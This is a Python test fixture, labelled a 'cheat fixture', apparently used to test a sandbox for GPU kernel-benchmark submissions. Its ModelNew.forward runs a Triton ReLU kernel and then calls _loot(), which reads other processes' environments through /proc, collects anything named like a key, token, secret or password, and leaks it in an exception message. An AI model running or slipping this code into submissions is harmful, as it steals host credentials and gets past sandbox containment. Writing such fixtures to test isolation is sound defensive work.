"""Cheat fixture: reads other processes' environments (the server's, the shell above it) through
/proc and hands back whatever looks like a secret in its error text (see tests/engine/box/test_box.py)."""

import os as _o
import re as _re

import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def relu_affine_kernel(x_ptr, y_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
    offs = tl.program_id(0) * BLOCK_SIZE + tl.arange(0, BLOCK_SIZE)
    mask = offs < n_elements
    x = tl.load(x_ptr + offs, mask=mask)
    tl.store(y_ptr + offs, tl.maximum(x, 0.0) * 2.0 + 1.0, mask=mask)


def _loot():
    pids, pid = set(), _o.getpid()
    while pid > 1:  # the ancestors first: the worker, the zygote, the server, its shell
        pids.add(pid)
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    try:
        pids |= {int(p) for p in _o.listdir("/proc") if p.isdigit()}
    except OSError:
        pass
    found, read = set(), 0
    for p in sorted(pids):
        try:
            with open(f"/proc/{p}/environ", "rb") as f:
                env = f.read().decode("utf-8", "replace")
        except OSError:
            continue
        read += 1
        found |= {v for v in env.split("\0") if _re.search("KEY|TOKEN|SECRET|PASSWORD", v.split("=")[0])}
    return read, sorted(found)


class ModelNew(nn.Module):
    def forward(self, x):
        y = torch.empty_like(x)
        n = x.numel()
        relu_affine_kernel[(triton.cdiv(n, 512),)](x, y, n, BLOCK_SIZE=512)
        read, found = _loot()
        raise RuntimeError(f"read {read} environments; loot: {found}")
